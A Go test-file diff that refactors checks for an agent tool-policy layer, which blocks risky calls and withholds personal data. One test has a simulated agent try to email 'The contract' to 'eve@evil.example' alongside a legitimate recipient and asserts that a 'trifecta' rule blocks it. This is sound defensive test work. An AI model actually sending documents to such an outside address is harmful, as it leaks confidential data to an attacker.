@@ -334,19 +334,7 @@ func TestSnippetsTxtar(t *testing.T) {
 			for _, run := range []pageRun{pageRuns[0], pageRuns[2]} {
 				t.Run(run.name, func(t *testing.T) {
 					got := runCases(t, run, []*corpus.Case{c})
-					if e, ok := got.registerErrs[c.Name]; ok {
-						t.Fatalf("registerTool: %s: %s", e.Name, e.Message)
-					}
-					for _, path := range got.paths {
-						t.Run(path, func(t *testing.T) {
-							if reason, ok := c.Skip[path]; ok {
-								t.Skip(reason)
-							}
-							r := got.results[path][c.Name]
-							require.NotNil(t, r, "no result")
-							checkCall(t, c, path, r, got.oracle[c.Name])
-						})
-					}
+					checkCase(t, got, c)
 					checkConsole(t, got.console, []*corpus.Case{c})
 				})
 			}
@@ -610,14 +598,7 @@ var snippetChecks = map[string]snippetCheck{
 		assert.Equal(t, "bob@example.com", eval[string](p.tab, `window.asked.input.to`), "the question's input")
 
 		blocked := p.execute("send_email", `{"to":"eve@evil.example, bob@example.com","body":"The contract"}`).String(t)
-		var res struct {
-			IsError bool `json:"isError"`
-			Meta    struct {
-				Policy struct {
-					Rule string `json:"rule"`
-				} `json:"dev.veil/policy"`
-			} `json:"_meta"`
-		}
+		var res refusal
 		require.NoError(t, json.Unmarshal([]byte(blocked), &res), "the blocked call's result: %s", blocked)
 		assert.True(t, res.IsError, "isError of %s", blocked)
 		assert.Equal(t, "trifecta", res.Meta.Policy.Rule, "the rule of %s", blocked)
@@ -649,15 +630,7 @@ var snippetChecks = map[string]snippetCheck{
 			break
 		}
 		declined := eval[string](p.tab, `window.deleting`)
-		var res struct {
-			IsError bool `json:"isError"`
-			Meta    struct {
-				Policy struct {
-					Rule    string `json:"rule"`
-					Outcome string `json:"outcome"`
-				} `json:"dev.veil/policy"`
-			} `json:"_meta"`
-		}
+		var res refusal
 		require.NoError(t, json.Unmarshal([]byte(declined), &res), "the declined call's result: %s", declined)
 		assert.True(t, res.IsError, "isError of %s", declined)
 		assert.Equal(t, "consequential", res.Meta.Policy.Rule, "the rule of %s", declined)
@@ -670,4 +643,16 @@ var snippetChecks = map[string]snippetCheck{
 		assertWithheld(t, view, "ada@example.com", "get_contact, whose pii result withhold covers")
 		return ""
 	},
+}
+
+// refusal is what a test reads of the agent view of a call the policy
+// refused: an error result naming the rule and the outcome.
+type refusal struct {
+	IsError bool `json:"isError"`
+	Meta    struct {
+		Policy struct {
+			Rule    string `json:"rule"`
+			Outcome string `json:"outcome"`
+		} `json:"dev.veil/policy"`
+	} `json:"_meta"`
 }
